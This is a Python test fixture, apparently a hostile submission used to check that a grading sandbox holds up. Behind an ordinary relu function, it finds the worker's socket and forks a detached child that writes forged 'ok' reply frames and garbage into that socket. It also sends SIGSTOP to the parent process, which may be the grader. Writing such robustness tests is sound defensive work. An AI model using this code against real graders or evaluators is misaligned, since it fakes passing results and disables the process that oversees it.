"""Attack on the wire from beside the worker: at import the module finds the worker's
socket among its open file descriptors and forks a child that outlives relu's call and
writes forged reply frames into the shared socket (claiming success with the right
values for the next requests), then garbage, while the parent keeps answering; relu also
sends SIGSTOP to the worker's parent (bubblewrap's init, or the grader itself in reduced
mode: the test runs this only where the worker has a uid of its own).

Expected: the forged frames are a protocol violation for the calls they land in (no point
for them); the grader is never stopped or killed; grading ends in bounded time; the child
does not outlive grading.
"""
import os as _os
import signal as _signal
import socket as _socket
import stat as _stat
import struct as _struct
import time as _time

_FORGED = []


def _socket_fds():
    found = []
    for fd in range(3, 256):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found


def _forge_from_child():
    fds = _socket_fds()
    _FORGED.append(len(fds))
    if not fds or _os.fork():
        return
    try:   # the child: detach, wait for the parent's next request, then write into the wire
        _os.setsid()
        _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 0; exec \"$0\" \"$@\"",
                              _sys_executable(), "-c", _CHILD, str(fds[0]),
                              PARAMS.get("marker", "marker")])
    finally:
        _os._exit(0)


def _sys_executable():
    import sys
    return sys.executable


_CHILD = r'''
import json, os, socket, struct, sys, time
fd = int(sys.argv[1])
sock = socket.socket(fileno=fd)
for seq in range(1, 200):
    body = json.dumps({"ok": True, "re": seq, "value": 1.0}).encode()
    for frame in (struct.pack("!I", len(body)) + body, b"\xff" * 64, b"{\"ok\": true}"):
        try:
            sock.sendall(frame)
        except OSError:
            sys.exit(0)
    time.sleep(0.01)
time.sleep(30)
'''


def relu(z):
    if not _FORGED:
        _forge_from_child()
        try:
            _os.kill(_os.getppid(), _signal.SIGSTOP)
            print('hostile:socket_games stopped the parent', flush=True)
        except OSError as exc:
            print(f'hostile:socket_games parent: {exc.strerror}', flush=True)
    _time.sleep(0.3)
    return np.maximum(np.asarray(z, dtype=float), 0.0)
